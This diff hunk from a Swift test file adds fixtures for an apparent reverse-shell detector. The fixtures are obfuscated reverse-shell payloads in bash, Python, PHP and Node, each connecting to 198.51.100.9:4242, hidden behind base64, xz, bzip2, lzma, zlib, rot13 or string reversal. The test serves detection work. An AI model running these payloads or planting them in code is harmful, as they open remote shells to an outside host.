@@ -52,6 +52,31 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
     "<?php eval(str_rot13('$f=sfbpxbcra(\"198.51.100.9\",4242);rkrp(\"/ova/fu -v <&3 >&3 2>&3\");')); ?>",
     "echo b25mdSAtdiA+JiAvcXJpL2dwYy8xOTguNTEuMTAwLjkvNDI0MiAwPiYx | base64 -d | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
     "a='bash -i';b=' >& /dev/tcp/198.51.100.9/4242 0>&1';eval \"$a$b\"",
+    // Under xz and bzip2, and turned round.
+    "echo /Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQApYmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjkvNDI0MiAwPiYxAAA"
+      + "A9pfoo+uFbJYAAUIqelFyOR+2830BAAAAAARZWg== | base64 -d | xz -d | sh",
+    "base64 -d <<< QlpoOTFBWSZTWU0HKpYAABAZgEED9mE+YE0AIAAihpo0GQBoUGjRoMgNNPLaMGh15cVhEMJc8MQIUcRT0Cy6vP"
+      + "eFfi7kinChIJoOVSw= | bunzip2 | bash",
+    "python3 -c 'import bz2,base64;exec(bz2.decompress(base64.b64decode(\"QlpoOTFBWSZTWbbhim8AACebgFBldmo"
+      + "ACi9v3qAgAHIo0TQDJiaYRiepod+Iyp7VP1TzVNPSMEep6j1OLHpfbJQ5xsKvIUUSajkcrxqkAjhYplnVvvgxoR1GT7DN9INmEvY"
+      + "+b3DVzJtWhYLhhpzJQRadfmEx3NgA3gTawQFbCrJe4k/F3JFOFCQtuGKbwA==\")))'",
+    "python3 -c 'import lzma,base64;exec(lzma.decompress(base64.b64decode(\"/Td6WFoAAATm1rRGAgAhARYAAAB0L"
+      + "+Wj4AB/AHVdADSbSme4Ujxz96op/aUjPxw9LJgwSEJdh/yjTNzzLyGsPtgK1K/GqobujBfsP4b0qVAGDuWXp5r5QIp7/yqGphAo2"
+      + "DPLHDSVhAHHDXsTbQNA+vnXhOSRkyjE3EcIBMaNCwY5UMXTOZiLVF/23/Nc6ASkdWM6zwAAAADzmwbiATY+kgABkQGAAQAAh+SUx"
+      + "LHEZ/sCAAAAAARZWg==\")))'",
+    "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'H"
+      + "fC5VGA/7tLeI0fc2+3/SCPlKSAHdNHXdXD0UDoos6/tYIRPtH/q+ImEat0TXFIDyFi89EH8EssUq4iNg9Qe76U2/GzoS50oLzU63"
+      + "O0XfvZe1bWFtLuKMRK1YZLpuIyTUgzItEKCS4KlrGNQMEjAKEEzlwJe'))",
+    "<?php eval(str_rot13(gzinflate(base64_decode('U0mzLU5LKqhISi5K1FAytLTQMzXUMzQw0LNU0jExMjHStC7KLirQUN"
+      + "LPL0vUTytV0C1TsFEzVrADYiMgoaRpDQA='))));?>",
+    "<?php @eval(strrev(\";)\\\"3&>2 3&> 3&< i- hs/nib/\\\"(cexe;)2424,\\\"9.001.15.891\\\"(nepokcosf=s\\$"
+      + "\"));",
+    "import socket,subprocess,os\nTARGETS=[\"198.51.100.9\"]\nPORTS=[4242]\ns=socket.socket()\n"
+      + "s.connect((TARGETS[0],PORTS[0]))\nfor i in range(3): os.dup2(s.fileno(),i)\nsubprocess.call([\"/bin/sh\",\"-i\"])",
+    // A call is no value, though it begins and ends with one letter.
+    "{\"c\":\"const net=require('net');const {spawn}=require('child_process');const cfg={host:'198.51.100.9',port:4242};"
+      + "const c=net.createConnection(cfg,()=>{const sh=spawn('/bin/bash',['-i']);c.pipe(sh.stdin);"
+      + "sh.stdout.pipe(c);});\", \"pid\": 3}",
   ])
   func undoesWhatIsRare(text: String) {
     let found = shells(text).first { $0.kind == .reverseShell }
